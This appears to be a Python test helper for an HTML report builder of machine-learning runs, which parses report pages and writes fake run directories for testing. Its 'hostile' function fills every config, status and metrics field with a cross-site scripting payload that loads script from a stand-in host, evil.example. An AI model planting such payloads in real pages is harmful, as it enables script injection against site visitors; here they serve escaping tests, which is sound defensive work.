"""Reading a report's page as a browser would, and run directories to report on."""

from __future__ import annotations

import base64
import io
import json
from html.parser import HTMLParser
from pathlib import Path

from PIL import Image

VOID = {"img", "link", "meta", "source"}


class Page(HTMLParser):
    """The elements and the text of a page, whose tags must close in order."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text, self._open = "", list[str]()
        self.source = path.read_text(encoding="utf-8")
        self.feed(self.source)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self._open and self._open[-1] != "style":
            self.text += data

    def all(self, tag: str) -> list[dict[str, str | None]]:
        """Return the attributes of all elements of a kind."""
        return [attributes for name, attributes in self.elements if name == tag]


def picture(uri: str | None) -> Image.Image:
    """Return the picture in a data URI, decoded whole."""
    assert uri is not None
    head, _, content = uri.partition(",")
    assert head == "data:image/png;base64"
    image = Image.open(io.BytesIO(base64.b64decode(content, validate=True)))
    image.load()
    return image


def hostile(output: Path, name: str = "<script>alert(1)<b>$x_$") -> Path:
    """Write a pretraining and its probe; every text in their files attacks a page."""
    attack = '"><img src=x onerror=alert(1)><script src="https://evil.example/x.js"></script>'
    run, probe = output / "p", output / name
    for each in (run, probe):
        each.mkdir(parents=True)
        status = {"state": "internal", "exit_status": 70, "step": 2, "reason": attack}
        (each / "status.json").write_text(json.dumps(status))
        environment = {"arguments": [attack], "processes": 1, attack: attack}
        (each / "environment.json").write_text(json.dumps(environment))
    (run / "config.yaml").write_text(f"name: p\nmoco:\n  queue_size: 8\n'{attack}': '{attack}'\n")
    (probe / "config.yaml").write_text(f"encoder: {run}\nname: '{attack}'\ntop_k: 5\n")
    metrics: list[dict[str, object]] = [
        {"step": n, "epoch": n / 2, "train/loss": 1.0, "knn/top1": 0.5} for n in (1, 2)
    ]
    metrics.append({"step": 2, "alarm": attack, "text": attack})
    (run / "metrics.jsonl").write_text("\n".join(map(json.dumps, metrics)))
    (probe / "metrics.jsonl").write_text('{"step": 2, "epoch": 1, "probe/top1": 0.5}\n')
    (probe / "DONE").write_text('{"probe": {"test": {"top1": 0.5}}}')
    figures = {"top1": {"mean": 0.5}, "confusion": [[1, 2], [3, 4]], attack: 1}
    results = {
        **{"schema": "moco_dist.probe", "classes": [attack, name], "verdict": attack},
        **{"encoders": {"probe": {"test": figures}}, "protocol": attack, "features": attack},
    }
    (probe / "results.json").write_text(json.dumps(results))
    return probe
